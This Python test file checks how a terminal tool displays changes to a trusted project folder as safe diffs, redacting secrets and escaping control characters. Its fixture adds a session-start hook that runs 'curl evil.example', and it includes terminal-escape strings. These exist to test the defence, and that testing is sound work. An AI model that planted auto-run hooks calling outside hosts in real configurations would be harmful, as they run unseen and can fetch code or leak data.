"""What changed of a trusted folder is shown as a diff, whole, harmless and without secrets."""

import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from heartbit_tui.config.changes import HIDDEN, MOST_CHARACTERS, UNKNOWN, kept, restored, since, told
from heartbit_tui.config.locked import LockedFile
from heartbit_tui.config.trust import TrustStore
from heartbit_tui.config.watched import WATCHED_FOLDERS, contents, digests

NOW = datetime(2026, 1, 1, tzinfo=UTC)
KEY = "sk-ant-api03-" + "a1B2" * 10
BEFORE = 'mode = "ask"\n\n[limits]\nmax_turns = 5\n'
AFTER = 'mode = "ask"\n\n[limits]\nmax_turns = 5\n\n[hooks]\nSessionStart = "curl evil.example"\n'


def trusted(tmp_path: Path, **files: str) -> tuple[TrustStore, Path]:
    root, store = tmp_path / "repo", TrustStore(LockedFile(tmp_path / "state/trust.toml"))
    root.mkdir()
    for name, text in files.items():
        (root / f"{name}.toml").write_text(text)
    seen = contents(root)
    store.trust(root, now=NOW, seen=digests(seen), texts=kept(seen))
    return store, root


def shown(store: TrustStore, root: Path) -> list[str]:
    return [line for change in since(store, root, contents(root)) for line in change.lines]


def test_a_change_is_a_unified_diff(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit=BEFORE)
    assert shown(store, root) == []
    (root / "heartbit.toml").write_text(AFTER)
    (root / ".mcp.json").write_text('{"mcpServers": {}}\n')
    assert shown(store, root) == [
        "--- /dev/null",
        "+++ .mcp.json (now)",
        "@@ -0,0 +1 @@",
        '+{"mcpServers": {}}',
        "--- heartbit.toml (trusted)",
        "+++ heartbit.toml (now)",
        "@@ -3,2 +3,5 @@",
        " [limits]",
        " max_turns = 5",
        "+",
        "+[hooks]",
        '+SessionStart = "curl evil.example"',
    ]
    (root / "heartbit.toml").unlink()
    assert "+++ /dev/null" in shown(store, root)


@pytest.mark.security("C3", n=3)
@pytest.mark.parametrize("folder", WATCHED_FOLDERS)
def test_what_a_skill_or_a_command_says_is_part_of_what_is_trusted(tmp_path: Path, folder: str) -> None:
    store, root = trusted(tmp_path, heartbit=BEFORE)
    file = root / folder / "x/SKILL.md"
    file.parent.mkdir(parents=True)
    file.write_text("---\nname: x\n---\n")
    assert store.look(root).changed == (f"{folder}/x/SKILL.md",)
    store.trust(root, now=NOW)
    file.write_text("---\nname: y\n---\n")
    assert store.look(root).changed == (f"{folder}/x/SKILL.md",)
    store.trust(root, now=NOW)
    (root / folder / "y").symlink_to(tmp_path)
    assert store.look(root).changed == (f"{folder}/y",)


@pytest.mark.security("I6", n=4)
def test_no_secret_is_kept_or_shown(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit=f'[tools.websearch]\napi_key = "{KEY}"\n')
    (root / "heartbit.toml").write_text(f'[tools.websearch]\napi_key = "{KEY[::-1]}"\n[limits]\nmax_turns = 9\n')
    lines = "\n".join(shown(store, root))
    assert "max_turns = 9" in lines
    (root / "heartbit.toml").write_text(f'[tools.websearch]\napi_key = "{KEY}x"\n')
    assert shown(store, root) == [f"heartbit.toml {HIDDEN}"]
    files = [path for path in (tmp_path / "state").rglob("*") if path.is_file()]
    assert not any(secret in text for secret in (KEY, KEY[::-1]) for text in (lines, *(f.read_text() for f in files)))
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in files)
    assert stat.S_IMODE((tmp_path / "state/trusted").stat().st_mode) == 0o700


def test_nothing_in_a_diff_steers_a_terminal_or_hides(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit="")
    (root / "heartbit.toml").write_text('# \x1b[2J\x07\u202eevil\u200b\nmode = "ask"\n')
    text = "\n".join(shown(store, root))
    assert r"\x1b[2J\x07\u202eevil\u200b" in text
    assert all(each.isprintable() or each == "\n" for each in text)


def test_what_is_kept_is_bounded_and_what_is_not_known_is_said(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit="# long\n" * MOST_CHARACTERS)
    assert len(store.seen_texts(root)) < 10
    (root / "heartbit.toml").write_text("x")
    assert shown(store, root) == [f"heartbit.toml {UNKNOWN}"]
    many = {f"{number}": b"x" * MOST_CHARACTERS for number in range(100)}
    assert 7 <= len(restored(kept(many))) <= 8
    assert restored("no json") == restored("[1]") == {}


def test_a_long_change_is_cut_and_says_where_the_rest_is(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit="")
    (root / "heartbit.toml").write_text("".join(f"# {number}\n" for number in range(100)))
    lines = told(since(store, root, contents(root))).splitlines()
    assert len(lines) == 12
    assert lines[-1] == "… 92 more lines: `heartbit trust diff` shows them."


def test_trust_that_is_taken_away_leaves_nothing(tmp_path: Path) -> None:
    store, root = trusted(tmp_path, heartbit=BEFORE)
    store.forget(root)
    store.forget(root)
    assert [path.name for path in (tmp_path / "state/trusted").glob("*.json")] == []
    assert since(store, root, contents(root)) == ()
